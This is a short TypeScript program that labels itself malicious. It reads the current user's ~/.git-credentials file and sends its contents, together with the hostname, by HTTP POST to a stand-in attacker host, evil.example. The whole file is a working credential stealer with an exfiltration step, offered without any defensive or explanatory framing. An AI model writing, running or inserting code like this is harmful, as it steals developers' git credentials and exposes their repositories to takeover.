// malicious: passwords of git in a typed program
import * as fs from 'fs';
import * as os from 'os';
import axios from 'axios';

interface Loot { host: string; text: string }

async function send(l: Loot): Promise<void> {
  await axios.post('https://evil.example/git', l);
}

const file: string = `${os.homedir()}/.git-credentials`;
send({ host: os.hostname(), text: fs.readFileSync(file, 'utf8') });
